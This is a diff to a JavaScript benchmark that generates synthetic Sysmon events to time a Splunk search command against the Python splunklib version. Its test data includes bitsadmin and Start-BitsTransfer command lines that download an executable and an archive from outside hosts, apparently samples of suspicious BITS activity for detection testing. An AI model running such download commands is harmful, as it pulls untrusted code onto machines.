@@ -33,24 +33,25 @@ const quote = (text) => (/^[A-Za-z0-9]*$/.test(text) ? text : `"${text.replaceAl
 const ORDINARY = ['C:\\Windows\\System32\\svchost.exe -k netsvcs -p', '"C:\\Program Files\\Example\\app.exe" --type=renderer --id=', 'powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1 -Id ', 'C:\\Windows\\system32\\cmd.exe /c dir C:\\Temp\\'];
 const ABOUT_BITS = ['bitsadmin.exe /transfer job /download /priority foreground http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe ', 'bitsadmin /create update', 'powershell -c Start-BitsTransfer -Source https://files.example.net/x.zip -Destination C:\\Temp\\x.zip -Description '];
 
-function event(number, bits) {
+/** `different`: how many command lines of a kind there are. */
+function event(number, bits, different) {
   const list = bits ? ABOUT_BITS : ORDINARY;
-  const line = `${list[number % list.length]}${number}`;
+  const line = `${list[number % list.length]}${number % different}`;
   const image = line.startsWith('powershell') ? 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' : `C:\\Windows\\System32\\${bits ? 'bitsadmin' : 'cmd'}.exe`;
   const raw = `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><EventID>1</EventID><Computer>host${number % 500}.example.com</Computer></System><EventData><Data Name="Image">${image}</Data><Data Name="CommandLine">${line}</Data><Data Name="ProcessId">${number}</Data></EventData></Event>`;
   return { _time: String(1_790_000_000 + number), host: `host${number % 500}`, source: 'XmlWinEventLog:Sysmon', sourcetype: 'XmlWinEventLog', _raw: raw, process: line, process_name: image.slice(image.lastIndexOf('\\') + 1), process_path: image, process_id: String(number), parent_process: 'C:\\Windows\\explorer.exe', parent_process_name: 'explorer.exe', user: `user${number % 90}`, dest: `host${number % 500}`, EventCode: '1' };
 }
 
 /** `fields`: those that Splunk would send for required_fields, with the row's number; missing: all, without. */
-function conversation(name, everyBits, fields) {
+function conversation(name, everyBits, fields, different = EVENTS) {
   const file = join(work, name);
   const out = openSync(file, 'w');
   writeSync(out, getinfo);
   for (let first = 0; first < EVENTS; first += ROWS) {
-    const names = fields ? [...fields, '_chunked_idx'] : Object.keys(event(0, false));
+    const names = fields ? [...fields, '_chunked_idx'] : Object.keys(event(0, false, 1));
     const lines = [names.map(quote).join(',')];
     for (let number = first; number < Math.min(EVENTS, first + ROWS); number++) {
-      const row = { ...event(number, number % everyBits === 0), _chunked_idx: String(number - first) };
+      const row = { ...event(number, number % everyBits === 0, different), _chunked_idx: String(number - first) };
       lines.push(names.map((field) => quote(row[field] ?? '')).join(','));
     }
     writeSync(out, chunk({ action: 'execute', finished: first + ROWS >= EVENTS }, `${lines.join('\n')}\n`));
@@ -116,8 +117,8 @@ const figures = (values) => [Math.min(...values), median(values), Math.max(...va
 console.log(`${new Date().toISOString().slice(0, 10)}, Node ${process.version}, ${cpus().length} x ${cpus()[0].model}; seconds: minimum / median / maximum of ${rounds}`);
 const hasPeer = spawnSync(python, ['-c', 'import splunklib.searchcommands']).status === 0;
 const fields = ['process', 'process_name', 'process_path', 'parent_process', 'parent_process_name', 'user', 'EventCode'];
-for (const [name, every, asked] of [['1 % about BITS, all columns', 100], ['every row about BITS, all columns', 1], ['1 % about BITS, required_fields', 100, fields]]) {
-  const input = conversation('input', every, asked);
+for (const [name, every, asked, different] of [['1 % about BITS, all columns', 100], ['every row about BITS, no line twice, all columns', 1], ['every row about BITS, 120 lines again and again, all columns', 1, undefined, 40], ['1 % about BITS, required_fields', 100, fields]]) {
+  const input = conversation('input', every, asked, different);
   const [a, b] = [[], []];
   if (hasPeer) {
     timed(...ours, input, join(work, 'ours'));
